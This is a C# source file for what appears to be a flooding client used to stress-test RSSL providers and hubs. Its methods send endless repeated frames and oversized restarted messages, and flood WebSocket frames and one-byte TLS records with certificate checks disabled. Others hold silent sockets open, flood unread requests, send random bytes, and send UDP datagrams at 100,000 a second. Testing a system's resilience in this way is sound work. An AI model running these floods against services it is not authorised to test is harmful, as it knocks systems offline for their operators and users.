using System.Diagnostics;
using System.Net.Security;
using System.Net.Sockets;
using PerfCommon.Transport;

namespace Floods;

/// <summary>The attacks on one provider or hub, and what they have sent.</summary>
/// <param name="host">Its host.</param>
/// <param name="port">Its port.</param>
internal sealed class Attack(string host, int port)
{
    private const int DatagramBytes = 64;
    private const int DatagramsPerSecond = 100_000;

    public long Bytes { get; private set; }

    public int Connections { get; private set; }

    public int Ended { get; set; }

    /// <summary>Repeats the same frame after a handshake.</summary>
    public async Task RepeatAsync(string hex, CancellationToken stop)
    {
        await using NetworkStream stream = await ConnectAsync(stop);
        await ShakeHandsAsync(stream, stop);
        await SendForeverAsync(stream, Convert.FromHexString(hex), stop);
    }

    /// <summary>Sends messages of 16 MB, each begun again before it is complete.</summary>
    public async Task RestartMessagesAsync(CancellationToken stop)
    {
        await using NetworkStream stream = await ConnectAsync(stop);
        await ShakeHandsAsync(stream, stop);
        byte[] first = new byte[6_000];
        Convert.FromHexString("17700308010000000001").CopyTo(first, 0); // 6,000 bytes, message 1 of 16 MB
        byte[] next = new byte[6_000];
        Convert.FromHexString("177003040001").CopyTo(next, 0);
        while (true)
        {
            for (byte id = 1; id <= 60; id++)
            {
                (first[9], next[5]) = (id, id);
                await SendAsync(stream, first, stop);
                for (int i = 0; i < 160; i++)
                    await SendAsync(stream, next, stop); // about a megabyte
            }
        }
    }

    /// <summary>Repeats the same WebSocket frame after the upgrade.</summary>
    public async Task RepeatOverWebSocketAsync(string hex, CancellationToken stop)
    {
        await using NetworkStream stream = await ConnectAsync(stop);
        await SendAsync(
            stream,
            ("GET /WebSocket HTTP/1.1\r\nHost: h\r\nUpgrade: websocket\r\nConnection: upgrade\r\nSec-WebSocket-Key: "u8
                + "dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Protocol: rssl.rwf\r\n\r\n"u8).ToArray(),
            stop);
        await SendForeverAsync(stream, Convert.FromHexString(hex), stop);
    }

    /// <summary>Sends TLS records of one byte each; .NET sends no empty ones.</summary>
    public async Task RepeatSmallRecordsAsync(CancellationToken stop)
    {
        await using NetworkStream stream = await ConnectAsync(stop);
#pragma warning disable CA5359 // a flooding client accepts any certificate
        await using SslStream ssl = new(stream, leaveInnerStreamOpen: true, (_, _, _, _) => true);
#pragma warning restore CA5359
        await ssl.AuthenticateAsClientAsync(host);
        await ShakeHandsAsync(ssl, stop);
        while (true)
        {
            for (int i = 0; i < Frames.Ping.Length; i++)
                await ssl.WriteAsync(Frames.Ping.AsMemory(i, 1), stop);
            Bytes += Frames.Ping.Length * Frames.SmallRecordBytes;
        }
    }

    /// <summary>Repeats requests whose answers are discarded or not even read.</summary>
    public async Task RepeatRequestsAsync(Func<int, byte[]> create, bool reads, CancellationToken stop)
    {
        await using NetworkStream stream = await ConnectAsync(stop);
        await ShakeHandsAsync(stream, stop);
        await SendAsync(stream, Frames.Of(AttackRequests.Login(0)), stop);
        Task reading = reads ? stream.CopyToAsync(Stream.Null, stop) : Task.CompletedTask;
        for (int number = 0; !reads || !reading.IsCompleted; number++)
            await SendAsync(stream, Frames.Of(create(number)), stop);
        await reading;
    }

    /// <summary>Holds sockets that send nothing, until they are closed.</summary>
    public async Task HoldSilentSocketsAsync(int count, CancellationToken stop)
    {
        List<NetworkStream> streams = [];
        try
        {
            while (streams.Count < count)
                streams.Add(await ConnectAsync(stop));
            await Task.Delay(1_000, stop);
        }
        finally
        {
            streams.ForEach(stream => stream.Dispose());
        }
    }

    /// <summary>Completes handshakes and disconnects.</summary>
    public async Task ConnectAndLeaveAsync(CancellationToken stop)
    {
        await using NetworkStream stream = await ConnectAsync(stop);
        await ShakeHandsAsync(stream, stop);
    }

    /// <summary>Sends random bytes after a handshake.</summary>
    public async Task SendNoiseAsync(CancellationToken stop)
    {
        await using NetworkStream stream = await ConnectAsync(stop);
        await ShakeHandsAsync(stream, stop);
        byte[] noise = new byte[10_000];
        new Random(Connections).NextBytes(noise);
        await SendAsync(stream, noise, stop);
    }

    /// <summary>Sends datagrams of no session, 100,000 a second: noise, and some that resemble those of a round-trip test.</summary>
    public async Task SendDatagramsAsync(CancellationToken stop)
    {
        using Socket socket = new(SocketType.Dgram, ProtocolType.Udp);
        await socket.ConnectAsync(host, port, stop);
        Connections++;
        byte[] datagram = new byte[DatagramBytes];
        Random random = new(Connections);
        long start = Stopwatch.GetTimestamp();
        for (long sent = 0; !stop.IsCancellationRequested;)
        {
            for (long due = (long)(Stopwatch.GetElapsedTime(start).TotalSeconds * DatagramsPerSecond); sent < due; sent++)
            {
                random.NextBytes(datagram);
                if (sent % 2 == 0)
                    Frames.RoundTripMagic.CopyTo(datagram, 0);
                socket.Send(datagram, SocketFlags.None, out _); // there may be no listener, or its buffer may be full
                Bytes += datagram.Length;
            }

            await Task.Delay(1, CancellationToken.None);
        }
    }

    private async Task<NetworkStream> ConnectAsync(CancellationToken stop)
    {
        Socket socket = new(SocketType.Stream, ProtocolType.Tcp) { NoDelay = true };
        await socket.ConnectAsync(host, port, stop);
        Connections++;
        return new NetworkStream(socket, ownsSocket: true);
    }

    // The connection object is not used after its handshake: later bytes are written to the stream.
    private async Task ShakeHandsAsync(Stream stream, CancellationToken stop) => await RsslConnection.OpenClientAsync(
        new StreamDuplex(stream), new ConnectOptions { Host = host, Port = port }, stop);

    private async Task SendForeverAsync(Stream stream, byte[] frame, CancellationToken stop)
    {
        byte[] chunk = Frames.Repeat(frame);
        while (true)
            await SendAsync(stream, chunk, stop);
    }

    private async Task SendAsync(Stream stream, byte[] bytes, CancellationToken stop)
    {
        await stream.WriteAsync(bytes, stop);
        Bytes += bytes.Length;
    }
}
